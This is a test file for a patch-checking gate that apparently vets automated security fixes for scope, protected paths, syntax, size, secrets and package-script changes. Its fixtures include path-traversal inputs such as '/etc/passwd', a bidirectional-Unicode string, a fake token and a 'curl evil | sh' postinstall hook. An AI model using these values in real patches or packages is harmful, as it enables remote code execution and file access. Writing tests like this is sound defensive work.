import { describe, expect, it } from "vitest";
import type { FileChange } from "../../src/domain/dependency-fix.js";
import { runLocalChecks, type LocalCheckPolicy } from "../../src/gates/run-local-checks.js";

const policy: LocalCheckPolicy = { allowed: ["src/api/users.js"], protectedPaths: ["src/secrets/**"], maxFiles: 3, maxChangedLines: 20 };

function verdicts(changes: FileChange[], p: LocalCheckPolicy = policy) {
  return Object.fromEntries(runLocalChecks(changes, p).map((v) => [v.gate, v]));
}

const edit = (path: string, before: string | null, after: string | null): FileChange => ({ path, before, after });

describe("runLocalChecks", () => {
  it("passes a small fix to the alerted file, with evidence for every gate", () => {
    const result = verdicts([edit("src/api/users.js", "const q = 'a' + id;\n", "const q = ['a', id];\n")]);
    expect(Object.values(result).every((v) => v.passed)).toBe(true);
    expect(result.scope!.evidence[0]).toMatch(/1 file/);
    expect(result.parse!.evidence[0]).toBe("parsed: src/api/users.js");
  });

  it("refuses workflows, CODEOWNERS, its own config and .npmrc whatever the plan allows", () => {
    const everything: LocalCheckPolicy = { ...policy, allowed: ["**"] };
    for (const path of [".github/workflows/ci.yml", "CODEOWNERS", ".github/secfix.yml", ".npmrc", "packages/a/.npmrc", ".gitmodules", "src/secrets/key.js"]) {
      const scope = verdicts([edit(path, "a\n", "b\n")], everything).scope!;
      expect(scope.passed, path).toBe(false);
      expect(scope.evidence[0]).toMatch(/protected/);
    }
  });

  it("refuses paths that escape the repository or reach into .git", () => {
    const everything: LocalCheckPolicy = { ...policy, allowed: ["**"] };
    for (const path of ["../outside.js", "/etc/passwd", "src/../../x.js", ".git/config", "src\\win.js"]) {
      expect(verdicts([edit(path, "a", "b")], everything).scope!.passed, path).toBe(false);
    }
  });

  it("refuses files outside the plan, new files and deletions", () => {
    const result = verdicts([edit("src/other.js", "a\n", "b\n"), edit("src/api/users.js", null, "new\n"), edit("src/api/users.js", "old\n", null)]);
    expect(result.scope!.evidence).toEqual([
      "src/other.js: outside the plan's files (src/api/users.js)",
      "src/api/users.js: a new file; fixes only edit existing files",
      "src/api/users.js: deleted; fixes never delete files",
    ]);
  });

  it("fails a fix that breaks the syntax of JavaScript, JSON or YAML, but not one that was already broken", () => {
    expect(verdicts([edit("src/api/users.js", "f(1);\n", "f(1;\n")]).parse!.passed).toBe(false);
    const json: LocalCheckPolicy = { ...policy, allowed: ["**"] };
    expect(verdicts([edit("package.json", "{}\n", "{,}\n")], json).parse!.passed).toBe(false);
    expect(verdicts([edit("config.yml", "a: 1\n", "a: [\n")], json).parse!.passed).toBe(false);
    expect(verdicts([edit("src/api/users.js", "f(1;\n", "f(2;\n")]).parse!.passed).toBe(true);
  });

  it("fails a fix over the configured size, and an empty one", () => {
    const big = Array.from({ length: 30 }, (_, i) => `line ${i}`).join("\n");
    expect(verdicts([edit("src/api/users.js", "x\n", big)]).size!.evidence[0]).toMatch(/31 lines changed; the limit is 20/);
    expect(verdicts([]).size!.evidence).toContain("the patch changes nothing");
  });

  it("fails a fix that adds a secret, hidden Unicode or the redaction placeholder, or changes line endings", () => {
    const content = (after: string, before = "const a = 1;\n") => verdicts([edit("src/api/users.js", before, after)]).content!;
    expect(content('const token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";\n').evidence[0]).toMatch(/looks like a secret/);
    expect(content("const a = 1; // \u202eevil\n").evidence[0]).toMatch(/hidden or bidirectional/);
    expect(content('const key = "[REDACTED]";\n').evidence.join(" ")).toMatch(/redaction placeholder/);
    expect(content("const a = 2;\r\nconst b = 3;\r\n", "const a = 1;\nconst b = 3;\n").evidence[0]).toMatch(/line endings from lf to crlf/);
    expect(content("const a = 2;\n").passed).toBe(true);
  });

  it("fails a fix that changes package scripts", () => {
    const manifests: LocalCheckPolicy = { ...policy, allowed: ["**/package.json"] };
    const before = '{"scripts":{"test":"vitest"},"dependencies":{"a":"1.0.0"}}';
    expect(verdicts([edit("package.json", before, before.replace('"1.0.0"', '"1.0.1"'))], manifests)["package-scripts"]!.passed).toBe(true);
    const added = before.replace('"test":"vitest"', '"test":"vitest","postinstall":"curl evil | sh"');
    expect(verdicts([edit("package.json", before, added)], manifests)["package-scripts"]!.passed).toBe(false);
  });
});
